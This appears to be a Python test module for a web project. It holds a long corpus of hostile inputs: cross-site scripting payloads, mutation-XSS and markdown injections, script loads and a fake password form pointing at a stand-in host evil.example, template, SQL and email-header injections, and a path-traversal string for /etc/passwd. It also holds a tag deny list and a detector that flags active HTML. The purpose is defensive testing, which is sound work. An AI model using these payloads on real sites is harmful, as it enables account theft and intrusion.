"""Texts that somebody may type to do harm: through every field that shows text none of them may act.

`breaches` reads a page as a browser would and says what in it could act. It knows nothing of how text was cleaned.
"""

import re
from itertools import product

from selectolax.lexbor import LexborHTMLParser, LexborNode

_CODE = "alert(1)"
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerrawupdate",
)
_TAGS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "marquee", "a href=#")
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "%6Aavascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==,",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://example.org/",
    "file:///etc/passwd?",
    "feed:javascript:",
    "view-source:",
)
_WRITTEN = ("[x]({})", "<a href='{}'>x</a>", "[x][1]\n\n[1]: {}", "<{}>", "![x]({})")

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "'\"><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)>">',
    "<script type=module>import('//evil.example/x.js')</script>",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
_FRAMES = (
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password type=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<portal src=//evil.example></portal>",
    "<dialog open>Your password, please</dialog>",
    "<template><script>alert(1)</script></template>",
    "<slot name=x onslotchange=alert(1)></slot>",
)
_STYLES = (
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0;background:#fff'>over everything</p>",
    "<div style=background:url(javascript:alert(1))>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p class='govuk-button' id='main-content'>x</p>",
    "<b id=csrf_token name=csrf_token>x</b>",
    "<img name=getElementById id=cookie>",
)
_MUTATIONS = (
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></foreignObject></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'></use></svg>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<select><template shadowrootmode=open><script>alert(1)</script></template></select>",
    "<title><img src=x onerror=alert(1)></title>",
    "<table><td><a href='javascript:alert(1)'>x",
)
_MARKDOWN = (
    "[x](<javascript:alert(1)>)",
    '[x](https://ok.example "onclick=alert(1)")',
    '![x" onerror="alert(1)](x)',
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '~~~"><script>alert(1)</script>\nx\n~~~',
    "> <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <svg onload=alert(1)> | 2 |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    '<https://evil.example/" onmouseover="alert(1)>',
    'https://evil.example/"onmouseover="alert(1)',
    'mailto:x@example.org?subject="><script>alert(1)</script>',
    "[x]: javascript:alert(1)\n[x]",
    "*[HTML]: <script>alert(1)</script>\nHTML",
    "{: onclick=alert(1) }\nx",
    "@[<script>alert(1)</script>](person:1)",
    "@[x](javascript:alert(1))",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
)
_ELSEWHERE = (
    "{{ 7 * 7 }}{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(who)s %s %n {0} {actor.audiences}",
    "Bins\r\nBcc: everyone@example.org\r\n\r\nhello",
    "Bins\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "=?utf-8?q?=0D=0ABcc=3A_everyone=40example=2Eorg?=",
    '=HYPERLINK("//evil.example","x")',
    "'; DROP TABLE users; --",
    '" OR 1=1 --',
    "\u202egpj.exe\u202c",
    "\u2066\u2067\u2068right to left for ever",
    "a\u0301" * 40,
    "\ufeff\u200b\u200d\u2060",
    "\ud7ff\ue000\uffff",
    "\U0001d56d\U0001d58e\U0001d593\U0001d598 🗑️👩🏽‍🔧",
    "\x1b[31mred\x1b[0m",
    "</ul></main></body></html>",
    "\u2028alert(1)\u2029",
    "null",
    "../../../../etc/passwd",
    "[" * 90,
    "<" * 300,
    "&" * 300,
)

HOSTILE: tuple[str, ...] = (
    *_SCRIPTS,
    *(f"<{tag} {event}={_CODE}>" for tag, event in product(_TAGS, _EVENTS)),
    *(form.format(scheme + _CODE) for scheme, form in product(_SCHEMES, _WRITTEN)),
    *_FRAMES,
    *_STYLES,
    *_MUTATIONS,
    *_MARKDOWN,
    *_ELSEWHERE,
)

NEVER = (
    "iframe",
    "object",
    "embed",
    "base",
    "applet",
    "frame",
    "portal",
    "style",
    "math",
    "marquee",
    "dialog",
    "video",
)
ADDRESSES = ("href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href", "ping", "background")
SCHEMES = {"", "http", "https", "mailto"}
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*", re.IGNORECASE)


def breaches(html: str) -> list[str]:
    """What in this HTML could act: an empty list for a page that is only text, links and our own scripts."""
    tree = LexborHTMLParser(html)
    found = [f"<{node.tag}>" for node in tree.css(", ".join(NEVER))]
    for node in tree.css("*"):
        found += [
            f"<{node.tag} {name}={value!r}>" for name, value in node.attributes.items() if _acts(node, name, value)
        ]
    scripts = [node for node in tree.css("script") if node.attributes.get("type") != "application/json"]
    return found + [f"script with text: {node.html}" for node in scripts if node.text().strip()]


def _acts(node: LexborNode, name: str, value: str | None) -> bool:
    if name.startswith("on") or name in {"style", "srcdoc"} or (node.tag, name) == ("meta", "http-equiv"):
        return True
    if node.tag in {"script", "link", "img"} and name in {"src", "href"}:
        return not (value or "").startswith("/") or (value or "").startswith("//")
    return name in ADDRESSES and _scheme(value or "") not in SCHEMES


def _scheme(address: str) -> str:
    """As browsers read it: without the spaces and control characters in it."""
    plain = "".join(sign for sign in address if ord(sign) > 32)
    scheme, colon, _rest = plain.partition(":")
    return scheme.lower() if colon and SCHEME.fullmatch(scheme) else ""
